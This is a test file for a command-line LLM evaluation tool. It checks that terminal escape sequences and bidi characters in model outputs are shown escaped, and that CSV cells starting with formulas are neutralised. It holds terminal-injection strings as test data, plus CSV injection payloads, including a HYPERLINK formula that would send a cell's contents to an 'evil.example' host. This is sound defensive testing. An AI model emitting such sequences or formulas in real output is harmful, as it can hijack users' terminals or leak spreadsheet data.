import { spawn } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/render/csv.js';
import { displayCopy, displayText, guardTerminal } from '../../src/render/terminal-text.js';
import { hasCommand, ptyCommand, runCli, runOnPty, workdir, type CliResult } from '../helpers/cli.js';
import { startWireServer, type WireServer } from '../server/wire-server.mjs';

// No hostile byte reaches a terminal or a spreadsheet. Control characters in model outputs, judge
// reasons, server errors and task-file ids go through every command (eval, report, compare, label,
// validate, merge) and come out escaped; CSV cells that a spreadsheet would run are neutralised.

/** Raw bytes that must never be printed: ESC (titles, clear screen, colours), BEL, NUL, C1 CSI, bidi overrides. */
const RAW = /[\u0000\u0007\u001b\u009b\u202e\u2066]/;
const HOSTILE = 'out \u001b]0;TITLE\u0007 \u001b[2J\u001b[31mred \u0000nul \u009b2J c1 \u202ebidi\u2066 \u001b[1A';

const TASK = `
name: hostile
prompts:
  - id: "p\\e]0;retitled\\a\\e[2J\\u202e"
    user: "Say {{w}}"
providers:
  - { id: "prov\\e[31m\\u009b2Jx", type: openai, model: gpt-4o-mini }
examples:
  - vars: { w: "a\\e[2J" }
    labels: [{ output: "fine", verdict: pass }, { output: "bad", verdict: fail }]
  - vars: { w: b }
  - vars: { w: err }
judge: { model: openai:gpt-4o, rubric: Pass if fine. }
settings: { max_retries: 0 }
`;

let server: WireServer;
let dir: string;
const runs: Array<{ what: string; res: CliResult }> = [];
beforeAll(async () => {
  server = await startWireServer({
    rules: [
      { match: 'impartial grader', reply: JSON.stringify({ verdict: 'fail', reason: `judged ${HOSTILE}` }) },
      { match: 'Say err', reply: 'x', error: { status: 400, message: `server says ${HOSTILE}` } },
    ],
    defaultReply: (req) => `${HOSTILE} ${req.lastUser}`,
  });
  dir = await workdir({ 'task.yaml': TASK });
});
afterAll(() => server.close());

const env = () => ({ OPENAI_BASE_URL: server.openaiBaseUrl, OPENAI_API_KEY: 'k' });
async function go(what: string, args: string[], input?: string, code = 0) {
  const res = await runCli(args, { cwd: dir, env: env(), ...(input === undefined ? {} : { input }) });
  runs.push({ what, res });
  expect(res.code, `${what}: ${res.stderr}`).toBe(code);
  return res;
}

describe('control characters through every command', () => {
  it('eval, report, compare, merge, validate and label all finish', async () => {
    await go('eval', ['eval', 'task.yaml', '--no-color', '-o', 'run.json', '-o', 'run.csv']);
    await go('eval colour', ['eval', 'task.yaml']);
    await go('eval --dry-run', ['eval', 'task.yaml', '--dry-run']);
    await go('report', ['report', 'run.json']);
    await go('compare', ['compare', 'run.json', 'run.json']);
    await go('eval shard 1', ['eval', 'task.yaml', '--shard', '1/2', '-o', 's1.json']);
    await go('eval shard 2', ['eval', 'task.yaml', '--shard', '2/2', '-o', 's2.json']);
    await go('merge', ['merge', 's1.json', 's2.json', '-o', 'merged.json']);
    await go('validate', ['validate', 'task.yaml']);
    await go('label', ['label', 'task.yaml', '--run', 'run.json'], 'p\nnot-an-answer \u001b[2J\nf \u001b]0;x\u0007 critique\nq\n');
    await writeFile(join(dir, 'broken.yaml'), `${TASK}"bad\\e]0;key\\a": 1\n`);
    await go('validate broken', ['validate', 'broken.yaml'], undefined, 2);
  });

  it('no raw control byte reaches stdout or stderr; they are shown escaped', () => {
    for (const { what, res } of runs) {
      expect(RAW.test(res.stdout), `${what}: stdout`).toBe(false);
      expect(RAW.test(res.stderr), `${what}: stderr`).toBe(false);
    }
    const evalOut = runs.find((r) => r.what === 'eval')!.res.stdout;
    expect(evalOut).toContain('p\\x1b]0;retitled\\x07\\x1b[2J\\u202e');
    expect(evalOut).toContain('prov\\x1b[31m\\x9b2Jx');
    expect(evalOut).toContain('out \\x1b]0;TITLE\\x07');
    expect(evalOut).toContain('judge: judged out \\x1b]0;TITLE');
    expect(evalOut).toContain('HTTP 400 bad request: server');
    expect(runs.find((r) => r.what === 'validate broken')!.res.stderr).toContain('unknown key "bad\\x1b]0;key\\x07"');
    expect(runs.find((r) => r.what === 'label')!.res.stdout).toContain('Output:\n    out \\x1b]0;TITLE\\x07');
  });

  it('colours stay colours: only our own escape sequences are raw on a colour terminal', () => {
    const colour = runs.find((r) => r.what === 'eval colour')!.res.stdout;
    // NO_COLOR is unset but stdout is a pipe: no colour at all; the guard never has to pass an ESC.
    expect(colour).not.toMatch(/\u001b/);
    expect(guardTerminal('\u001b[31mred\u001b[39m \u001b[1G\u001b[2K\u001b[?25l')).toBe('\u001b[31mred\u001b[39m \u001b[1G\u001b[2K\u001b[?25l');
    expect(guardTerminal('\u001b]0;t\u0007\u001b[2J\u001b[H\u009b\u202e\r')).toBe('\\u001b]0;t\\u0007\\u001b[2J\\u001b[H\\u009b\\u202e\\u000d');
    expect(guardTerminal('a\r\nb\tc')).toBe('a\r\nb\tc');
  });

  it('--json stays valid JSON and keeps every character', async () => {
    const res = await go('eval --json', ['eval', 'task.yaml', '--json']);
    expect(RAW.test(res.stdout)).toBe(false);
    const record = JSON.parse(res.stdout);
    expect(record.results[0].output.startsWith(HOSTILE)).toBe(true);
    expect(record.summary[0].prompt).toBe('p\u001b]0;retitled\u0007\u001b[2J\u202e');
  });

  it('files keep the data as written (the record, the CSV)', async () => {
    const record = JSON.parse(await readFile(join(dir, 'run.json'), 'utf8'));
    expect(record.results[0].output.startsWith(HOSTILE)).toBe(true);
    const rows: string[][] = parseCsv(await readFile(join(dir, 'run.csv'), 'utf8'));
    expect(rows[1]![6]!.startsWith(HOSTILE)).toBe(true);
  });

  it('displayText escapes every kind, and keeps line breaks only where asked', () => {
    expect(displayText('a\nb\tc\u001b\u0000\u007f\u0085\u200e\u2028\u202a\u2069')).toBe('a\\nb\\tc\\x1b\\x00\\x7f\\x85\\u200e\\u2028\\u202a\\u2069');
    expect(displayText('a\r\nb\rc', true)).toBe('a\nb\\rc');
    expect(displayText('plain\ttext', true)).toBe('plain\ttext');
  });

  it('displayCopy copies only what it changes, keeps key order, and keeps a key named __proto__ a key', () => {
    const clean = { id: 'p1', results: [{ output: 'fine\nline', usage: { inputTokens: 3 } }], n: 2 };
    expect(displayCopy(clean)).toBe(clean);
    const dirty = JSON.parse('{"a":1,"__proto__":"x\\u001by","results":[{"output":"ok"},{"output":"a\\r\\nb"}],"z":"\\u202e"}');
    const shown = displayCopy(dirty);
    expect(Object.keys(shown)).toEqual(['a', '__proto__', 'results', 'z']);
    expect(Object.getPrototypeOf(shown)).toBe(Object.prototype);
    expect(Object.getOwnPropertyDescriptor(shown, '__proto__')?.value).toBe('x\\x1by');
    expect(shown.results[0]).toBe(dirty.results[0]);
    expect(shown.results[1]).toEqual({ output: 'a\nb' });
    expect(shown.z).toBe('\\u202e');
    expect(dirty.results[1].output).toBe('a\r\nb');
  });
});

const hasScript = hasCommand('script');

describe.skipIf(!hasScript)('on a colour terminal (a pseudo-terminal through script)', () => {
  const onTty = (args: string[]) => runOnPty(200, 50, args, { cwd: dir, env: { ...env(), TERM: 'xterm-256color' } });
  /** Sequences that retitle, clear, jump, or come from C1/bidi: never raw on the screen. */
  const HOSTILE_SEQUENCE = /\u001b\]|\u001b\[2J|\u001b\[H|\u009b|\u202e|\u0007|\u0000/;

  it('eval and report: our colours are raw, every hostile sequence is escaped', async () => {
    for (const args of [
      ['eval', 'task.yaml'],
      ['report', 'run.json'],
      ['compare', 'run.json', 'run.json'],
    ]) {
      const res = await onTty(args);
      expect(res.code, args.join(' ')).toBe(0);
      expect(res.stdout).toMatch(/\u001b\[1mResults|\u001b\[1mCompared/); // bold headings: colours are on
      expect(HOSTILE_SEQUENCE.test(res.stdout), args.join(' ')).toBe(false);
    }
  });

  it('label asks on the terminal, and escapes what it shows', async () => {
    await writeFile(join(dir, 'fresh.yaml'), TASK); // the labels written by the test above are not in it
    // Typed once the question is on the screen, as a person would (input sent earlier is echoed, then lost).
    const child = spawn('script', ['-qec', ptyCommand(200, 50, ['label', 'fresh.yaml', '--run', 'run.json']), '/dev/null'], {
      cwd: dir,
      env: { PATH: process.env.PATH ?? '', ...env(), TERM: 'xterm-256color' },
    });
    let stdout = '';
    child.stdout.on('data', (d) => {
      stdout += d;
      if (stdout.includes('(p/f/s/q)') && !child.stdin.writableEnded) child.stdin.end('q\n');
    });
    const code = await new Promise<number | null>((done) => child.on('close', done));
    expect(code).toBe(0);
    expect(stdout).toContain('out \\x1b]0;TITLE');
    expect(stdout).toMatch(/\u001b\[1G\u001b\[0Jpass \/ fail/); // readline's own moves pass the guard
    expect(HOSTILE_SEQUENCE.test(stdout)).toBe(false);
  });
});

describe('CSV injection (OWASP)', () => {
  it.each(['=HYPERLINK("http://evil","x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('%j is neutralised: a leading quote, quoted', (cell) => {
    const field = csvField(cell);
    expect(field.startsWith(`"'`)).toBe(true);
    expect((parseCsv(`${field}\r\n`) as string[][])[0]![0]).toBe(`'${cell}`);
  });

  it.each(['plain', 'a=b', ' =x', '42', ''])('%j is left as it is', (cell) => {
    expect(parseCsv(`${csvField(cell) || '""'}\r\n`)[0]?.[0] ?? '').toBe(cell);
  });

  it('numbers are never touched (a negative cost would stay a number)', () => {
    expect(csvField(-1.5)).toBe('-1.5');
  });

  it('a model output that is a formula is neutralised in the report', async () => {
    const injection = await startWireServer({ defaultReply: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
    try {
      const d = await workdir({
        'task.yaml': 'name: inj\nprompt: "Say {{w}}"\nproviders: [openai:gpt-4o-mini]\nexamples: [{ vars: { w: a } }]\nchecks: [{ type: json }]\n',
      });
      const res = await runCli(['eval', 'task.yaml', '-o', 'r.csv'], { cwd: d, env: { OPENAI_BASE_URL: injection.openaiBaseUrl, OPENAI_API_KEY: 'k' } });
      expect(res.code).toBe(0);
      const text = await readFile(join(d, 'r.csv'), 'utf8');
      expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
      expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    } finally {
      await injection.close();
    }
  });
});
